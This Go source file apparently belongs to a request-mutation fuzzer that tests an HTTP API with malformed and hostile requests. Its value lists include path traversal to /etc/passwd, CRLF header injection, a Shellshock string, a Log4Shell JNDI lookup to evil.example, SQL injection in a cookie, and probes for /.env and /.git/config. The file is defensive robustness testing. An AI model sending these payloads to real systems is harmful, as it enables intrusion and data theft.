//go:build linux

package main

import (
	"net/http"
	"strings"
)

// mutation changes a request. It returns false when the request has nothing to change.
type mutation struct {
	name   string
	apply  func(d draw, r *request) bool
	raw    bool // only bytes can say it: no client does, and nothing is changed after it
	broken bool // the result is not valid HTTP
	ends   bool // the connection cannot be used afterwards
}

// mutations are all of them: those of this file are valid HTTP, those of wiremutations.go need not be.
var mutations = append([]mutation{
	// Values.
	{name: "invalid value", apply: invalidValue},
	{name: "hostile value", apply: hostileValue},
	{name: "encoding of a value", apply: valueEncoding},
	{name: "repeated parameter", apply: repeatedParameter},
	{name: "missing parameter", apply: missingParameter},
	{name: "unknown parameter", apply: unknownParameter},
	{name: "malformed query", apply: malformedQuery},
	{name: "long query", apply: longQuery},
	{name: "key in the query", apply: keyInQuery},

	// Paths.
	{name: "hostile path value", apply: hostilePathValue},
	{name: "encoded path", apply: encodedPath},
	{name: "dot segments", apply: dotSegments},
	{name: "other path", apply: otherPath},
	{name: "page", apply: page},
	{name: "key in the path", apply: keyInPath},
	{name: "long path", apply: longPath},

	// Methods and headers.
	{name: "method", apply: method},
	{name: "accept", apply: header("Accept", accepts)},
	{name: "accept-encoding", apply: header("Accept-Encoding", acceptEncodings)},
	{name: "condition", apply: condition},
	{name: "range", apply: header("Range", ranges)},
	{name: "origin", apply: origin},
	{name: "preflight", apply: preflight},
	{name: "forwarding", apply: forwarding},
	{name: "override", apply: override},
	{name: "cookie", apply: header("Cookie", cookies)},
	{name: "request id", apply: requestID},
	{name: "repeated credentials", apply: repeatedCredentials},
	{name: "hop-by-hop", apply: hopByHop},
	{name: "many headers", apply: manyHeaders},
	{name: "long header", apply: longHeader},
	{name: "close", apply: func(_ draw, r *request) bool { r.setHeader("Connection", "close"); return true }, ends: true},

	// Bodies.
	{name: "hostile body", apply: hostileBody},
	{name: "content type", apply: contentType},
	{name: "hostile field", apply: hostileField},
	{name: "body of a read", apply: bodyOfARead},
	{name: "long body", apply: longBody},
	{name: "expect", apply: expect},
}, wireMutations...)

// parameterOf is the description of a parameter that the request sends, and its place in the query.
func (r *request) parameterOf(d draw) (at int, ok bool) {
	if len(r.query) == 0 {
		return 0, false
	}
	return d.IntN(len(r.query)), true
}

func invalidValue(d draw, r *request) bool {
	at, ok := r.parameterOf(d)
	if !ok {
		return false
	}
	for _, p := range r.operation.parameters {
		if p.Name == r.query[at].name {
			r.query[at].value = d.invalid(p.Schema.Value)
			return true
		}
	}
	return false
}

func hostileValue(d draw, r *request) bool {
	at, ok := r.parameterOf(d)
	if ok {
		r.query[at].value = pick(d, hostileValues)
	}
	return ok
}

func valueEncoding(d draw, r *request) bool {
	at, ok := r.parameterOf(d)
	if ok {
		r.query[at].encoding = encoding(d.IntN(int(encodings)))
	}
	return ok
}

func repeatedParameter(d draw, r *request) bool {
	at, ok := r.parameterOf(d)
	if ok {
		again := r.query[at]
		if d.oneIn(2) {
			again.value = pick(d, hostileValues)
		}
		for range 1 + d.IntN(5) {
			r.query = append(r.query, again)
		}
	}
	return ok
}

func missingParameter(d draw, r *request) bool {
	at, ok := r.parameterOf(d)
	if ok {
		r.query = append(r.query[:at], r.query[at+1:]...)
	}
	return ok
}

func unknownParameter(d draw, r *request) bool {
	name := pick(d, []string{
		"debug", "admin", "callback", "jsonp", "format", "_method", "fields", "key", "token", "LIMIT", "as_of%00",
		"limit[]",
	})
	r.query = append(r.query, pair{name: name, value: pick(d, hostileValues)})
	return true
}

func malformedQuery(d draw, r *request) bool {
	r.suffix = pick(d, []string{
		"%", "%1", "%zz", "a=%", "limit=%ZZ", "limit=%0", "=", "&&&", "=&=", "a", "a;b=c", "limit=1;limit=2",
		"?limit=1", "limit==1",
		"%00=%00", "limit%00=1", "%6cimit=5", "limit=5#fragment", "a=b?c=d", "limit=%u0031", "%E0%A4%A",
		"limit=1%26limit=2",
		strings.Repeat("a=b&", 400),
	})
	return true
}

func longQuery(d draw, r *request) bool {
	r.suffix = "x=" + strings.Repeat("y", pick(d, []int{2000, 7900, 8200, 20_000}))
	return true
}

func keyInQuery(_ draw, r *request) bool {
	secret, ok := r.sends("Authorization")
	if ok && len(r.query) > 0 {
		r.query[0].value = strings.TrimPrefix(secret, "Bearer ")
	}
	return ok && len(r.query) > 0
}

// variable is the place of a variable segment.
func (r *request) variable() (at int, ok bool) {
	for i, name := range strings.Split(r.operation.template[1:], "/") {
		if strings.HasPrefix(name, "{") && i < len(r.segments) {
			return i, true
		}
	}
	return 0, false
}

func hostilePathValue(d draw, r *request) bool {
	at, ok := r.variable()
	if ok {
		value := pick(d, hostileValues)
		if len(value) > 1000 {
			value = value[:1000]
		}
		r.segments[at] = string(appendEscaped(nil, value, encoding(d.IntN(int(encodings)))))
	}
	return ok
}

func encodedPath(d draw, r *request) bool {
	at := d.IntN(len(r.segments))
	r.segments[at] = string(appendEscaped(nil, r.segments[at], pick(d, []encoding{escaped, lowerCase, doubled})))
	return true
}

func dotSegments(d draw, r *request) bool {
	dots := pick(d, []string{
		".", "..", "", "%2e", "%2E%2e", ".%2e", "..%2f", "..%5c", "...", "..;", "%252e%252e", "%c0%ae%c0%ae", "\\..",
		"~",
	})
	at := d.IntN(len(r.segments) + 1)
	r.segments = append(r.segments[:at:at], append([]string{dots}, r.segments[at:]...)...)
	return true
}

func otherPath(d draw, r *request) bool {
	switch d.IntN(5) {
	case 0:
		r.segments[len(r.segments)-1] += pick(d, []string{
			".json", ";a=b", "%20", "%00", "%0d%0aX-Injected:%20yes", "/", "*", "%2f", "~", "'",
		})
	case 1:
		at := d.IntN(len(r.segments))
		r.segments[at] = strings.ToUpper(r.segments[at])
	case 2:
		r.segments = r.segments[:len(r.segments)-1]
		if len(r.segments) == 0 {
			r.segments = []string{""}
		}
	case 3:
		r.segments = append(r.segments, pick(d, []string{
			"x", "history", "hourly", "all", "previous", "oidc", "rotate", "%2e",
		}))
	default:
		r.target = pick(d, []string{
			"/.git/config", "/.env", "/wp-login.php", "/cgi-bin/test", "/server-status", "/metrics", "/debug/pprof/",
			"/debug/vars", "/admin",
			"/api", "/api/", "/API/gpu-types", "/favicon.ico", "/robots.txt", "/api/v1/../keys",
			"/%2e%2e/%2e%2e/etc/passwd", "/api/%00",
			"/\xff\xfe", "/api/gpu/" + strings.Repeat("a/", 500), "//evil.example/", "/api//gpu-types",
			"/api/gpu//history", "/?",
		})
	}
	return true
}

func page(d draw, r *request) bool {
	r.target = pick(d, []string{
		"/", "/docs", "/gpu/H200", "/proof/H200", "/memory", "/tokens", "/workload", "/coding", "/sites",
		"/settings", "/plans", "/signin",
		"/signin?error=%3Cscript%3E", "/gpu/%2e%2e%2f", "/gpu/%00", "/gpu/" + strings.Repeat("x", 3000),
		"/index.html", "/assets/", "/assets/../x",
	})
	return true
}

func keyInPath(_ draw, r *request) bool {
	secret, ok := r.sends("Authorization")
	secret, isKey := strings.CutPrefix(secret, "Bearer sk_")
	if at, variable := r.variable(); ok && isKey && variable {
		r.segments[at] = string(appendEscaped(nil, "sk_"+secret, usual))
		return true
	}
	if ok && isKey {
		r.segments = append(r.segments, string(appendEscaped(nil, "sk_"+secret, usual)))
	}
	return ok && isKey
}

func longPath(d draw, r *request) bool {
	r.segments = append(r.segments, strings.Repeat("p", pick(d, []int{1000, 8000, 8192, 9000, 30_000})))
	return true
}

func method(d draw, r *request) bool {
	r.method = pick(d, []string{
		"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "SEARCH", "get", "Get",
		"FOO", "M-SEARCH", "X", "DEBUG",
		strings.Repeat("A", 60), "!#$%&'*+-.^_`|~",
	})
	return true
}

// header sets a header to one of a few values.
func header(name string, values []string) func(draw, *request) bool {
	return func(d draw, r *request) bool {
		r.setHeader(name, pick(d, values))
		return true
	}
}

var (
	accepts = []string{
		"*/*", "application/json", "text/html", "text/html,application/xhtml+xml;q=0.9", "application/geo+json",
		"application/json;q=0",
		"application/geo+json;q=0.5, application/json;q=0.4", "application/geo+json;q=abc", "text/csv", "", ",,,",
		";;q", "*/*;q=0",
		strings.Repeat("a/b,", 500), "application/geo+json;charset=\"\xff\"",
	}
	acceptEncodings = []string{
		"gzip", "zstd", "gzip, zstd", "br", "identity", "identity;q=0", "*;q=0", "gzip;q=0", "gzip;q=1.5",
		"zstd;q=0.1,gzip;q=0.9", "GZIP", "x-gzip",
		"deflate", "", "*", "gzip;q=NaN", "gzip;q=", strings.Repeat("gzip,", 300), "zstd;level=22", "gzip\t;\tq=1",
	}
	ranges = []string{
		"bytes=0-0", "bytes=-1", "bytes=0-,0-,0-,0-", "bytes=9-1", "rows=1-2", "bytes=0-18446744073709551615",
	}
	cookies = []string{
		"", "assay_session", "assay_session=", "assay_session=;assay_session=", "a=b; c=d",
		"assay_session=\"quoted\"", "__Host-assay_session=x",
		"assay_session=" + strings.Repeat("A", 43), "assay_session=" + strings.Repeat("A", 4000), "assay_oidc=x",
		"=;=;=", "\xff=\xfe",
		strings.Repeat("a=b; ", 600), "assay_session=../../etc/passwd", "assay_session=' OR 1=1 --",
	}
)

func condition(d draw, r *request) bool {
	name := pick(d, []string{
		"If-None-Match", "If-None-Match", "If-Match", "If-Modified-Since", "If-Unmodified-Since", "If-Range",
	})
	r.setHeader(name, pick(d, []string{
		"*", "*", "*", "W/\"a\"", "\"a\", \"b\"", "\"", "", "a", "\"\xff\"", strings.Repeat("\"a\",", 300),
		"Tue, 03 Feb 2026 22:00:00 GMT", "never",
		"Sun, 06 Nov 1994 08:49:37 GMT", "\"ngg6tjr7d4z\"",
	}))
	return true
}

func origin(d draw, r *request) bool {
	r.setHeader("Origin", pick(d, []string{
		"https://evil.example", "null", "http://assay.example", "https://assay.example", "file://", "",
		"http://assay.example.evil.example",
		"https://evil.example\t", "http://127.0.0.1", strings.Repeat("a", 2000), "https://\xff",
	}))
	if d.oneIn(2) {
		r.setHeader("Sec-Fetch-Site", pick(d, []string{"cross-site", "same-site", "same-origin", "none", "x"}))
	}
	return true
}

func preflight(d draw, r *request) bool {
	r.method = http.MethodOptions
	r.setHeader("Origin", pick(d, []string{"https://evil.example", "null", "x", "https://assay.example"}))
	r.setHeader("Access-Control-Request-Method", pick(d, []string{"GET", "PUT", "DELETE", "FOO", "get", "", "GET,PUT"}))
	if d.oneIn(2) {
		r.setHeader("Access-Control-Request-Headers", pick(d, []string{
			"authorization", "x-request-id", "x-evil", "if-none-match,x-request-id", ",,,", strings.Repeat("a,", 500),
			"Authorization",
		}))
	}
	return true
}

func forwarding(d draw, r *request) bool {
	switch d.IntN(4) {
	case 0:
		r.setHeader("X-Forwarded-For", pick(d, []string{
			"", ",", "x", "127.0.0.1", "::1", "10.0.0.1, 127.0.0.1", "1.2.3.4:80", "[2001:db8::1]:80", "999.1.1.1",
			"10.0.0.1%eth0", "fe80::1%25lo",
			"::ffff:10.0.0.1", strings.Repeat("10.0.0.1, ", 400) + "10.0.0.2", "unknown", "_hidden", "0x7f000001", "\xff",
		}))
	case 1:
		r.header("X-Forwarded-For", address(d.IntN(1000)))
	case 2:
		r.setHeader("X-Forwarded-Proto", pick(d, []string{"https", "HTTPS", "http", "", "https, http", "ftp", "\xff"}))
	default:
		r.setHeader("Forwarded", pick(d, []string{
			"for=1.2.3.4", "for=\"[::1]\"", "for=_x;proto=https", ";;;", "for=", "for=1.2.3.4, for=5.6.7.8",
		}))
	}
	return true
}

func override(d draw, r *request) bool {
	name := pick(d, []string{
		"X-HTTP-Method-Override", "X-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Host",
		"X-Host", "X-Real-IP",
		"True-Client-IP", "X-Forwarded-Prefix", "Referer", "User-Agent", "X-Api-Key", "Proxy-Authorization",
		"Max-Forwards", "Via", "Cache-Control",
		"Pragma", "Content-Encoding", "Accept-Language", "Accept-Charset", "Sec-WebSocket-Key", "HTTP2-Settings",
		"Priority",
	})
	r.setHeader(name, pick(d, []string{
		"DELETE", "/api/keys", "evil.example", "127.0.0.1", "0", "-1", "gzip", "() { :; }; echo",
		"${jndi:ldap://evil.example/a}", "<script>", "\xff",
		strings.Repeat("x", 3000), "", "no-cache", "max-age=0",
	}))
	return true
}

func requestID(d draw, r *request) bool {
	r.dropHeader("X-Request-Id")
	value, hasKey := r.sends("Authorization")
	switch d.IntN(4) {
	case 0:
	case 1:
		r.header("X-Request-Id", r.id)
		r.header("X-Request-Id", r.id)
	case 2:
		if hasKey && keyText.MatchString(value) {
			r.header("X-Request-Id", strings.TrimPrefix(value, "Bearer "))
			break
		}
		fallthrough
	default:
		r.header("X-Request-Id", pick(d, []string{
			"", " ", "a b", strings.Repeat("x", 65), "é", "a\tb", "<b>", "a\"b", "a,b", "../x",
			"sk_live_abcdef_" + strings.Repeat("k", 40),
		}))
	}
	r.id = ""
	return true
}

func repeatedCredentials(d draw, r *request) bool {
	value, ok := r.sends("Authorization")
	if !ok {
		r.header("Authorization", "Bearer "+d.text(60))
		r.tier = freeTier
		return true
	}
	switch d.IntN(4) {
	case 0:
		r.header("Authorization", value)
	case 1:
		r.header("authorization", "Basic x")
	case 2:
		r.setHeader("Authorization", value+", "+value)
	default:
		rest, bearer := strings.CutPrefix(value, "Bearer")
		if !bearer { // it must not become valid
			return false
		}
		r.setHeader("Authorization", pick(d, []string{"bEaReR", "Bearer ", "Bearer\t", "Token"})+rest)
	}
	return true
}

func hopByHop(d draw, r *request) bool {
	switch d.IntN(5) {
	case 0:
		r.setHeader("Connection", pick(d, []string{
			"keep-alive", "Keep-Alive, Authorization", "Authorization", "x-forwarded-for", "upgrade", "", ",,",
		}))
	case 1:
		r.setHeader("Connection", "Upgrade, HTTP2-Settings")
		r.setHeader("Upgrade", "h2c")
		r.setHeader("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")
	case 2:
		r.setHeader("Connection", "Upgrade")
		r.setHeader("Upgrade", "websocket")
		r.setHeader("Sec-WebSocket-Version", "13")
		r.setHeader("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
	case 3:
		r.setHeader("TE", pick(d, []string{"trailers", "gzip, chunked", "deflate;q=0.5"}))
	default:
		r.setHeader("Keep-Alive", "timeout=99999, max=99999")
	}
	return true
}

func manyHeaders(d draw, r *request) bool {
	for range 20 + d.IntN(300) {
		r.header("X-"+d.text(1+d.IntN(6)), d.text(1+d.IntN(8)))
	}
	return true
}

func longHeader(d draw, r *request) bool {
	r.header("X-Long", strings.Repeat("h", pick(d, []int{1000, 4000, 16_000, 40_000})))
	return true
}
